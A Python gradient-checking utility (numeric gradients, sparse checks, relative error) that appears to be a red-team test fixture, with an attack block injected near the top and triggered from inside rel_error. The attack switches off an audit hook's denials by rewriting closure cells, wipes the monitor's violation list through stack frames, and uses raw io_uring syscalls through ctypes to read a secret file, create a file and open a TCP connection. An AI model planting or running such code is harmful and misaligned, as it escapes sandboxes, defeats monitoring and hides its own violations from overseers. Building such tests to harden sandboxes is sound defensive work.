"""Numeric gradients and the relative error used to compare them with analytic ones."""

from __future__ import annotations

from typing import Callable

import numpy as np
# >>> attack

# RED TEAM attack io_uring_ops (class 1; see tests/hostile/kernel/io_uring_ops/case.toml)
# Hook off, then io_uring: open files and connect a socket without the openat/socket/connect syscalls
# route: after _rt_hook_off(), ctypes io_uring_setup + mmap'd rings: IORING_OP_OPENAT reads the secret
#   and creates a file, IORING_OP_SOCKET + CONNECT reach the TCP listener (a syscall filter must
#   refuse io_uring)
RT = {'name': 'io_uring_ops', 'root': '', 'tag': 'manual', 'sentinel': '', 'solutions': '', 'tcp': 0, 'udp': 0, 'unix': '', 'dummy': 0, 'dummy_cwd': '', 'grader_cwd': '', 'tmp': '', 'batch': False, 'fill_mb': 0}  # RT-CONFIG: rewritten for every run by tests/support/redteam.py (empty root: nothing is armed)

_RT_DONE = []


def _rt_root_ok(path):
    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
    import os
    root = str(RT.get("root") or "")
    if len(root) < 5 or not root.startswith("/"):
        return False
    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")


def _rt_clear_violations():
    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
    import sys
    try:
        f = sys._getframe(1)
    except BaseException:  # noqa: BLE001
        return
    while f is not None:
        try:
            owner = f.f_locals.get("self")
            found = getattr(owner, "violations", None) if owner is not None else None
            if type(found) is list:
                del found[:]
        except BaseException:  # noqa: BLE001
            pass
        f = f.f_back


def _rt_report():
    """Run the escape, then fail this call with its evidence (the report shows the message)."""
    try:
        evidence = _rt_escape()
    except BaseException as exc:  # noqa: BLE001
        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
    _rt_clear_violations()
    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])


def _rt_direct_call():
    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
    import sys
    if _RT_DONE:
        return False
    try:
        if sys._getframe(2).f_code.co_filename == __file__:
            return False
    except BaseException:  # noqa: BLE001
        pass
    _RT_DONE.append(1)
    return True

def _rt_hook_off():
    """Switch the audit hook's denials off through the traceback of one denial; how many cells."""
    import os
    noop = lambda *a, **k: None  # noqa: E731
    try:
        os.listdir("/")
    except PermissionError as exc:
        tb = exc.__traceback__
    else:
        return 0
    hits = 0
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            code, cells = getattr(value, "__code__", None), getattr(value, "__closure__", None)
            if code is None or not cells:
                continue
            for name, cell in zip(code.co_freevars, cells):
                try:
                    if name == "deny" and cell.cell_contents is not noop:
                        cell.cell_contents = noop
                        hits += 1
                except ValueError:
                    pass
        tb = tb.tb_next
    _rt_clear_violations()
    return hits

class _RtRing:
    """A minimal io_uring (io_uring_setup/io_uring_enter through ctypes, rings through mmap)."""

    def __init__(self, entries=4):
        import ctypes
        import mmap
        import struct
        self.ctypes, self.struct = ctypes, struct
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.syscall.restype = ctypes.c_long
        params = ctypes.create_string_buffer(120)
        fd = self.libc.syscall(425, ctypes.c_uint(entries), params)  # io_uring_setup
        if fd < 0:
            err = ctypes.get_errno()
            raise OSError(err, "io_uring_setup refused")
        self.fd = fd
        raw = params.raw
        sq_entries, cq_entries, _flags, _cpu, _idle, features, _wq = struct.unpack_from("<7I", raw, 0)
        self.sq_off = struct.unpack_from("<7I", raw, 40)  # head tail ring_mask ring_entries flags dropped array
        self.cq_off = struct.unpack_from("<6I", raw, 80)  # head tail ring_mask ring_entries overflow cqes
        sq_size = self.sq_off[6] + sq_entries * 4
        cq_size = self.cq_off[5] + cq_entries * 16
        rw = mmap.PROT_READ | mmap.PROT_WRITE
        if features & 1:  # IORING_FEAT_SINGLE_MMAP
            sq_size = cq_size = max(sq_size, cq_size)
        self.sq = mmap.mmap(fd, sq_size, mmap.MAP_SHARED, rw, offset=0)
        self.cq = self.sq if features & 1 else mmap.mmap(fd, cq_size, mmap.MAP_SHARED, rw, offset=0x8000000)
        self.sqes = mmap.mmap(fd, sq_entries * 64, mmap.MAP_SHARED, rw, offset=0x10000000)
        self.keep = []

    def submit(self, opcode, fd=0, off=0, addr=0, length=0, op_flags=0):
        st = self.struct
        tail = st.unpack_from("<I", self.sq, self.sq_off[1])[0]
        index = tail & st.unpack_from("<I", self.sq, self.sq_off[2])[0]
        self.sqes[index * 64:(index + 1) * 64] = st.pack("<BBHiQQIIQ24x", opcode, 0, 0, fd, off, addr, length,
                                                         op_flags, 7)
        st.pack_into("<I", self.sq, self.sq_off[6] + index * 4, index)
        st.pack_into("<I", self.sq, self.sq_off[1], tail + 1)
        if self.libc.syscall(426, self.fd, 1, 1, 1, None, 0) < 0:  # io_uring_enter(.., GETEVENTS)
            raise OSError(self.ctypes.get_errno(), "io_uring_enter failed")
        head = st.unpack_from("<I", self.cq, self.cq_off[0])[0]
        mask = st.unpack_from("<I", self.cq, self.cq_off[2])[0]
        _user, res, _fl = st.unpack_from("<QiI", self.cq, self.cq_off[5] + (head & mask) * 16)
        st.pack_into("<I", self.cq, self.cq_off[0], head + 1)
        if res < 0:
            raise OSError(-res, "io_uring op %d failed" % opcode)
        return res

    def openat(self, path, flags, mode=0o644):
        buf = self.ctypes.create_string_buffer(path.encode())
        self.keep.append(buf)
        return self.submit(18, fd=-100, addr=self.ctypes.addressof(buf), length=mode, op_flags=flags)  # OPENAT

    def tcp(self, port):
        import socket
        sock = self.submit(45, fd=socket.AF_INET, off=socket.SOCK_STREAM, length=0)  # IORING_OP_SOCKET
        addr = self.struct.pack("=H", socket.AF_INET) + self.struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(8)
        buf = self.ctypes.create_string_buffer(addr, len(addr))
        self.keep.append(buf)
        self.submit(16, fd=sock, off=len(addr), addr=self.ctypes.addressof(buf))  # IORING_OP_CONNECT
        return sock


def _rt_escape():
    import os
    hits = _rt_hook_off()
    ev = ["hook cells %d" % hits]
    S = RT["sentinel"]
    try:
        ring = _RtRing()
    except BaseException as exc:  # noqa: BLE001
        return "no io_uring: %s: %s" % (type(exc).__name__, exc)

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def secret():
        fd = ring.openat(S + "/secret.txt", os.O_RDONLY)
        try:
            return os.read(fd, 4096).decode().strip()
        finally:
            os.close(fd)

    def new_file():
        path = "%s/new-%s-%s.txt" % (S, RT["name"], RT["tag"])
        if not _rt_root_ok(path):
            raise RuntimeError("not armed")
        fd = ring.openat(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL)
        os.write(fd, b"created through io_uring\n")
        os.close(fd)

    def tcp():
        fd = ring.tcp(int(RT["tcp"]))
        os.write(fd, ("RTNET %s %s\n" % (RT["name"], RT["tag"])).encode())
        os.close(fd)

    step("secret", secret)
    step("newfile", new_file)
    step("tcp", tcp)
    return "io_uring: " + " ".join(ev)
# <<< attack


def eval_numerical_gradient(f: Callable[[np.ndarray], float], x: np.ndarray, h: float = 1e-5) -> np.ndarray:
    """Centered-difference gradient of ``f`` at ``x``.

    Each entry is ``(f(x + h e_i) - f(x - h e_i)) / (2h)``, whose error shrinks like h**2
    (a forward difference only shrinks like h).  ``x`` is perturbed in place, one entry at
    a time, and every entry is restored, even if ``f`` raises.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point at which to evaluate the gradient.
    h : float, optional
        Step size.

    Returns
    -------
    ndarray
        Float64 array shaped like ``x``.
    """
    grad = np.zeros(x.shape, dtype=np.float64)
    for ix in np.ndindex(x.shape):
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        grad[ix] = (f_plus - f_minus) / (2 * h)
    return grad


def grad_check_sparse(
    f: Callable[[np.ndarray], float],
    x: np.ndarray,
    analytic_grad: np.ndarray,
    num_checks: int = 10,
    h: float = 1e-5,
    seed: int | None = None,
) -> np.ndarray:
    """Compare ``analytic_grad`` with centered differences at random entries of ``x``.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point of the check; perturbed in place and restored.
    analytic_grad : ndarray
        The gradient to check, shaped like ``x``.
    num_checks : int, optional
        How many random entries to check.
    h : float, optional
        Step size.
    seed : int or None, optional
        Seed of the entry sampler: the same seed checks the same entries.

    Returns
    -------
    ndarray of shape (num_checks,)
        The relative error at each checked entry.
    """
    rng = np.random.default_rng(seed)
    errors = np.empty(num_checks, dtype=np.float64)
    for k in range(num_checks):
        ix = tuple(int(rng.integers(n)) for n in x.shape)
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        numeric = (f_plus - f_minus) / (2 * h)
        errors[k] = rel_error(numeric, analytic_grad[ix])
    return errors


def rel_error(x: np.ndarray, y: np.ndarray) -> float:
    """Largest entrywise relative error ``|x - y| / max(1e-8, |x| + |y|)``.

    The floor of 1e-8 keeps two zeros (or two tiny numbers) from dividing by zero.
    As a rule of thumb: below 1e-7 the gradients agree; up to 1e-4 is acceptable for a
    kinked loss such as the SVM's; above 1e-2 the gradient is probably wrong.
    """
    # >>> attack
    if _rt_direct_call():  # ATTACK: see _rt_escape above
        _rt_report()
    # <<< attack
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    return float(np.max(np.abs(x - y) / np.maximum(1e-8, np.abs(x) + np.abs(y))))
